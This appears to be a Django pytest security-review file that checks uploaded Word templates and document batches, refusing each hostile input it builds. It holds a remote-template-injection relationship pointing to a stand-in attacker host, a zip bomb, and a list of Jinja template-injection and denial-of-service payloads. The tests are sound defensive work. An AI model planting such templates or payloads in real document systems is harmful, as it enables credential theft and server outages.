"""Security review: documents views (batches, uploaded Word templates)."""

from __future__ import annotations

import html
import io
import time
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from danhgia.accounts.models import RoleAssignment
from danhgia.audit.models import Action, AuditEvent
from danhgia.documents import contexts, engine
from danhgia.documents.models import DocumentJob, DocumentTemplate, JobState
from tests.documents.conftest import nfc
from tests.documents.test_render import docx_text
from tests.documents.test_templates import own_form


def _upload(client, unit, code: str, data: bytes, name: str = "mau-tinh.docx"):
    return client.post(
        reverse("documents-templates", args=[unit.pk]), {"code": code, "file": SimpleUploadedFile(name, data)}
    )


def _patched(code: str, edit) -> bytes:
    """The bundled template with its zip parts changed by `edit(parts: dict[str, bytes])`."""
    source = zipfile.ZipFile(io.BytesIO((engine.BUNDLED / f"mau-{code}.docx").read_bytes()))
    parts = {info.filename: source.read(info.filename) for info in source.infolist()}
    edit(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


def test_a_batch_is_not_handed_out_once_its_requester_lost_the_scope(docs, client_for):
    world = docs.world
    secretary = world.users["secretary_a"]
    client = client_for(secretary)
    client.post(reverse("documents-batch", args=[world.period.pk, docs.cell.pk]), {"formats": ["pdf"]},
                HTTP_HX_REQUEST="true")  # fmt: skip
    job = DocumentJob.objects.get(created_by=secretary)
    assert job.state == JobState.DONE
    # The secretary is relieved of the post: every page of the cell is refused to them from now on …
    RoleAssignment.objects.filter(user=secretary).delete()
    assert client.get(reverse("reviews-unit", args=[world.period.pk, docs.cell.pk])).status_code == 404
    assert client.get(reverse("documents-review", args=[docs.review.pk, "ban-kiem-diem", "pdf"])).status_code == 404
    # … but the zip holding every form of the cell is still theirs to download.
    response = client.get(reverse("documents-job-file", args=[job.pk]))
    status = response.status_code
    response.close()
    assert status == 404


def test_a_template_fetching_a_remote_template_is_refused(docs, client_for):
    # "Remote template injection": Word fetches the attached template from the address when the file is opened
    # (credential leak over SMB/WebDAV, a macro template); every member's form would carry it.
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )

    def edit(parts):
        parts["word/_rels/settings.xml.rels"] = rels
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"<w:zoom", b'<w:attachedTemplate r:id="rId99"/><w:zoom', 1
        )

    data = _patched("2B", edit)
    assert b"attachedTemplate" in zipfile.ZipFile(io.BytesIO(data)).read("word/settings.xml")
    client = client_for(docs.world.users["officer"])
    response = _upload(client, docs.world.province, "2B", data)
    assert response.status_code == 400
    assert not DocumentTemplate.objects.exists()


def test_fields_outside_the_checked_parts_are_refused_too(docs, client_for):
    # docxtpl renders the core properties and footnotes with Jinja as well, but the fields check reads the body,
    # headers and footers only: an unknown field (or a Jinja global: range, lipsum, cycler …) goes unnoticed.
    def edit(parts):
        parts["docProps/core.xml"] = parts["docProps/core.xml"].replace(
            b"<dc:title/>", b"<dc:title>{{ ho_va_ten }}{{ range(3)|list|length }}</dc:title>"
        )

    client = client_for(docs.world.users["officer"])
    response = _upload(client, docs.world.province, "2B", _patched("2B", edit))
    assert response.status_code == 400, "a template with an unknown field was accepted"
    assert not DocumentTemplate.objects.exists()


def test_a_jinja_global_in_the_body_is_an_unknown_field(docs, client_for):
    # Without Jinja's globals a template has only our fields: lipsum(10**6) is refused on upload, never rendered.
    def edit(parts):
        parts["word/document.xml"] = parts["word/document.xml"].replace(
            b"{{ co_quan }}", b"{{ co_quan }}{{ lipsum(1000000) }}", 1
        )

    client = client_for(docs.world.users["officer"])
    response = _upload(client, docs.world.province, "2B", _patched("2B", edit))
    assert response.status_code == 400 and "«lipsum»" in response.content.decode()
    assert not DocumentTemplate.objects.exists()


def test_a_zip_bomb_is_refused_before_it_is_read(docs, client_for):
    def edit(parts):
        parts["word/media/big.bin.txt"] = b"0" * (engine.MAX_UNPACKED_BYTES + 1)

    client = client_for(docs.world.users["officer"])
    response = _upload(client, docs.world.province, "2B", _patched("2B", edit))
    assert response.status_code == 400 and "quá lớn khi giải nén" in response.content.decode()


# ------------------------------------------------------------------------------------------------ Jinja limits
def _with_jinja(jinja: bytes, code: str = "2B") -> bytes:
    """The bundled template with `jinja` written after its first field, in the same run of text."""

    def edit(parts):
        parts["word/document.xml"] = parts["word/document.xml"].replace(b"{{ co_quan }}", b"{{ co_quan }}" + jinja, 1)

    return _patched(code, edit)


# What the probe sent (issue 16, item 6) and what else a form never needs: each refused on upload, by name.
UNSAFE = [
    (b"{% macro m(n) %}{{ m(n) }}{% endmacro %}{{ m(1) }}", "macro"),
    (b"{% macro m() %}x{% endmacro %}{% call m() %}y{% endcall %}", "macro"),
    (b"{{ co_quan * 100000 }}", "phép nhân"),
    (b"{% for c in co_quan * 1000 %}{{ co_quan }}{% endfor %}", "không phải danh sách"),
    (b"{% for c in co_quan %}{% for d in co_quan %}{{ co_quan }}{% endfor %}{% endfor %}", "không phải danh sách"),
    (b"{% for i in [1, 2, 3, 4, 5, 6, 7, 8, 9] %}{{ co_quan }}{% endfor %}", "không phải danh sách"),
    (b"{% for i in nhiem_vu %}{% for j in nhiem_vu %}{% for k in nhiem_vu %}.{% endfor %}{% endfor %}{% endfor %}",
     "lồng nhau quá 2 cấp"),
    (b"{% for r in nhiem_vu recursive %}{{ loop(nhiem_vu) }}{% endfor %}", "recursive"),
    (b"{{ co_quan|center(1000000) }}", "«|center»"),
    (b"{{ co_quan|replace('', 'xxxxxxxxxx')|replace('', 'xxxxxxxxxx') }}", "«|replace»"),
    (b"{{ '%01000000d'|format(1) }}", "«|format»"),
    (b"{{ '%01000000d' % 1 }}", "phép «%»"),
    (b"{{ 9 ** 99 }}", "lũy thừa"),
    (b"{{ co_quan.center(1000000) }}", "lời gọi hàm"),
    (b"{{ co_quan|safe }}", "«|safe»"),
    (b"{% autoescape false %}{{ co_quan }}{% endautoescape %}", "autoescape"),
    (b"{% set s = co_quan ~ co_quan %}{{ s }}", "«{% set %}»"),
    (b"{% with s = co_quan %}{{ s }}{% endwith %}", "«{% with %}»"),
    (b"{% filter upper %}{{ co_quan }}{% endfilter %}", "«{% filter %}»"),
    (b"{% include 'x.xml' %}", "«{% include %}»"),
    (b"{% import 'x.xml' as x %}", "«{% import %}»"),
    (b"{% extends 'x.xml' %}", "«{% extends %}»"),
    (b"{{ co_quan ~ '" + b"x" * 5000 + b"' }}", "chuỗi dài hơn"),
]  # fmt: skip


@pytest.mark.parametrize(("jinja", "named"), UNSAFE, ids=[j[:40].decode() for j, _ in UNSAFE])
def test_a_template_that_could_slow_the_server_is_refused_on_upload(docs, client_for, jinja, named):
    client = client_for(docs.world.users["officer"])
    response = _upload(client, docs.world.province, "2B", _with_jinja(jinja))
    page = html.unescape(response.content.decode())
    assert response.status_code == 400, f"accepted: {jinja!r}"
    assert named in page and "Mẫu chỉ được dùng các trường của văn bản" in page
    assert not DocumentTemplate.objects.exists()


def test_what_a_form_needs_of_jinja_is_still_accepted(docs, client_for):
    jinja = (
        b"[{{ ho_ten|upper }}|{{ chi_bo|default('') }}|{{ ho_ten ~ ' - ' ~ chi_bo|lower }}"
        b"{% if tong_diem %}|co diem{% endif %}"
        b"{% for r in nhiem_vu|selectattr('ten') %}|{{ loop.index }}.{{ r.ten|truncate(40) }}"
        b"{% for p in uu_diem %}{% if loop.first %}/{{ 2 * loop.length }}{% endif %}{% endfor %}{% endfor %}]"
    )
    client = client_for(docs.world.users["officer"])
    response = _upload(client, docs.world.province, "2B", _with_jinja(jinja))
    assert response.status_code == 302, html.unescape(response.content.decode())
    text = nfc(docx_text(own_form(docs)))
    assert (
        "[ĐẶNG NGỌC HƯỜNG|Chi bộ Xóm Đồi|Đặng Ngọc Hường - chi bộ xóm đồi|co diem|1.Tổ chức Lễ hội & <hội thi> của "
        "thôn/4|2.Vận động Nhân dân hiến đất làm đường/4|3.Tham gia sinh hoạt chi bộ đầy đủ/4]"
    ) in text


def _stored_before_the_fix(docs, jinja: bytes) -> DocumentTemplate:
    """An uploaded template written straight into storage, as one accepted before these checks would be."""
    template = DocumentTemplate(unit=docs.world.province, code="2B", version=1, name="mau-cu.docx", fields=[])
    template.file.save("2B-cu.docx", ContentFile(_with_jinja(jinja)), save=True)
    return template


def test_a_template_stored_before_the_checks_is_refused_when_a_form_is_written(docs, client_for):
    _stored_before_the_fix(docs, b"{% for c in co_quan %}{% for d in co_quan %}{{ co_quan * 1000 }}{% endfor %}"
                                 b"{% endfor %}")  # fmt: skip
    member = client_for(docs.user)
    started = time.monotonic()
    response = member.get(reverse("documents-review", args=[docs.review.pk, "ban-kiem-diem", "docx"]))
    assert time.monotonic() - started < 10
    page = html.unescape(response.content.decode())
    assert response.status_code == 409
    assert "Mẫu Word «mau-cu.docx» (phiên bản 1)" in page and "không dùng được" in page and "ngừng dùng" in page
    assert not AuditEvent.objects.filter(action=Action.DOCUMENT_DOWNLOADED).exists()
    # The PDF keeps the bundled layout; a batch of Word files fails with the same reason.
    assert member.get(reverse("documents-review", args=[docs.review.pk, "ban-kiem-diem", "pdf"])).status_code == 200
    secretary = docs.world.users["secretary_a"]
    client_for(secretary).post(reverse("documents-batch", args=[docs.world.period.pk, docs.cell.pk]),
                               {"formats": ["docx"]}, HTTP_HX_REQUEST="true")  # fmt: skip
    job = DocumentJob.objects.get(created_by=secretary)
    assert job.state == JobState.FAILED and "không dùng được" in job.error and "vòng lặp" in job.error


def test_rendering_stops_at_its_size_and_time_budget(docs, monkeypatch):
    prepared = contexts.review_documents([contexts.review_queryset().get(pk=docs.review.pk)])[0]
    template = (engine.BUNDLED / "mau-2B.docx").read_bytes()
    assert engine.render_docx(template, prepared.context)  # within the budget
    monkeypatch.setattr(engine, "MAX_RENDERED_CHARS", 10_000)
    with pytest.raises(engine.TemplateProblem, match="quá lớn"):
        engine.render_docx(template, prepared.context)
    monkeypatch.setattr(engine, "MAX_RENDERED_CHARS", 20_000_000)
    monkeypatch.setattr(engine, "MAX_RENDER_SECONDS", -1)
    with pytest.raises(engine.TemplateProblem, match="giây: mẫu lặp lại nội dung quá nhiều lần"):
        engine.render_docx(template, prepared.context)


def test_loops_that_write_nothing_are_stopped_too(docs, monkeypatch):
    """Found by a review: two nested loops over a 3,000-row list wrote nothing and took 6 s within the size budget."""
    prepared = contexts.review_documents([contexts.review_queryset().get(pk=docs.review.pk)])[0]
    context = {**prepared.context, "de_xuat": [{"stt": str(n)} for n in range(3_000)]}
    source = "{% for a in de_xuat %}{% for b in de_xuat %}{% if a.stt == 'x' %}y{% endif %}{% endfor %}{% endfor %}"
    template = _with_jinja(source.encode())
    started = time.monotonic()
    with pytest.raises(engine.TemplateProblem, match="vòng lặp của mẫu chạy quá"):
        engine.render_docx(template, context)
    assert time.monotonic() - started < 5


def test_a_template_that_fails_on_the_documents_data_is_said_not_a_server_error(docs):
    prepared = contexts.review_documents([contexts.review_queryset().get(pk=docs.review.pk)])[0]
    template = _with_jinja(b"{{ 1 / (de_xuat|length - 3) }}")
    with pytest.raises(engine.TemplateProblem, match="ZeroDivisionError"):
        engine.render_docx(template, {**prepared.context, "de_xuat": [1, 2, 3]})
